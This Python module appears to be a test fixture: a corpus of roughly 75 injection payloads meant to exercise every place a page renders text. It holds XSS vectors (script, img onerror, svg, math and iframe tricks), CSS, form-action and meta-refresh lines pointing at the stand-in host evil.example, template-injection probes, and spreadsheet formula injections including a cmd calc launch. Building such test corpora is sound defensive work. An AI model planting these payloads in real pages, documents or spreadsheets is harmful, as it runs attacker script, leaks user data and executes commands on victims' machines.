"""What somebody might write to make a page do something: for every place in which words are shown (F13)."""

from __future__ import annotations

OUT = "https://evil.example"
CORPUS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img src='https://evil.example/p.png'>", "<IMG SRC=`javascript:alert(1)`>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>", "<img/src/onerror=alert(1)>", "<image href=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext></table><mglyph><style><!--</style><img src onerror=alert(1)>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<table><td background='https://evil.example/b.png'>", "<iframe src='javascript:alert(1)'></iframe>",
    "'\"><iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe src=https://evil.example></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css'</style>",
    "<style>*{background:url(https://evil.example/s)}</style>", "<div style='background:url(https://evil.example/d)'>x</div>",
    "<div style='width:expression(alert(1))'>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>", "<form action=https://evil.example><button>ok", "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=https://evil.example/a.ogg autoplay>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>", "<a href=https://evil.example ping=https://evil.example/ping>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>", "<xss style='animation-name:x' onanimationstart=alert(1)>",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x",
    "[click](javascript:alert(1))", "![x](https://evil.example/p.png)", "<https://evil.example>", "[x]: https://evil.example",
    "{{7*7}}{% raw %}${7*7}", "{{ config.__class__ }}", "#{7*7}<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
    '" onmouseover=alert(1) x="', "' autofocus onfocus=alert(1) '", "`-alert(1)-`", '\\"-alert(1)}//', "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</bdi></li></ol><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202egnp.exe\u2066<b>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0", "@SUM(1)*alert(1)",
)  # fmt: skip
